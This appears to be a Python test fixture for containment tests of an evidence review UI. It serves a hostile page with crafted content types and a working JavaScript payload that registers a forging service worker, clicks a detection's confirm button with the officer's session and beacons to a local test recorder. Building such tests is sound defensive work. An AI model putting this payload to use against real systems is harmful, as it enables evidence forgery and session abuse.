"""A hostile site for the UI containment tests: pages with crafted types whose script,
should it ever run in the review UI, acts with the officer's session and reports to the
attacker's recorder."""

from __future__ import annotations

import hashlib
import threading
from typing import Any

from tests.webserver import WebServer

# Served as a script from the review UI's own origin (an evidence file), it would register
# itself as a service worker over /evidence/ (forging every file shown afterwards), open
# the detection in a window of the same origin and press its confirm button with the
# officer's session, then report to the attacker's recorder. Only where it lands in the UI.
PAYLOAD = """(function () {
  var REC = %(rec)s, DET = %(det)d;
  if (typeof window === "undefined") {
    self.addEventListener("fetch", function (e) {
      e.respondWith(new Response("<h1>forged</h1>", {headers: {"Content-Type": "text/html"}}));
    });
    return;
  }
  if (location.pathname.indexOf("/evidence/") !== 0) return;
  var me = document.currentScript.src, notes = ["ran=1"];
  var sw = navigator.serviceWorker.register(me).then(
    function () { notes.push("sw=registered"); }, function () { notes.push("sw=refused"); });
  var w = window.open("/detections/" + DET, "_blank"), tries = 0;
  var confirmed = new Promise(function (resolve) {
    var timer = setInterval(function () {
      var button = null;
      try { button = w.document.getElementById("confirm"); } catch (e) {}
      if (button || ++tries > 100) {
        clearInterval(timer);
        if (button) { button.click(); notes.push("confirm=clicked"); }
        resolve();
      }
    }, 100);
  });
  Promise.all([sw, confirmed]).then(function () {
    setTimeout(function () { location.href = REC + "/ran?" + notes.join("&"); }, 1000);
  });
})();
"""
# The page an officer is asked to look at: declared an image, rendered as HTML by any
# browser that believes the header; it loads the payload from the UI's own evidence URL.
EVIL = """<!doctype html><html><head><meta charset="utf-8"><title>Казино</title></head>
<body><p id="planted">Лучшее онлайн-казино, бонус 200%%!</p>
<script src="/evidence/%(payload_sha)s"></script>
<img src="%(rec)s/img-beacon"></body></html>
"""
EVIL_TYPE = "image/x, text/html"
PAYLOAD_TYPE = "image/x, text/javascript"


class Recorder(WebServer):
    """The attacker's endpoint: every request that reaches it is a script that ran."""

    def __init__(self) -> None:
        self.reached = threading.Event()
        super().__init__(lambda path, headers: (204, {}, b""))

    def reply(self, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
        self.reached.set()
        return super().reply(path, headers)


class HostileSite(WebServer):
    """Answers ``/casino`` and ``/payload.js`` with crafted types, once told the UI's ids."""

    def __init__(self, recorder: Recorder) -> None:
        self.state: dict[str, Any] = {"rec": recorder.url, "det": 0}
        super().__init__(self._route)

    def payload(self) -> bytes:
        return (PAYLOAD % {"rec": repr(self.state["rec"]), "det": self.state["det"]}).encode()

    def evil(self) -> bytes:
        sha = hashlib.sha256(self.payload()).hexdigest()
        return (EVIL % {"payload_sha": sha, "rec": self.state["rec"]}).encode()

    def _route(self, path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
        if path == "/casino":
            return 200, {"Content-Type": EVIL_TYPE}, self.evil()
        if path == "/payload.js":
            return 200, {"Content-Type": PAYLOAD_TYPE}, self.payload()
        return 404, {}, b"not found"
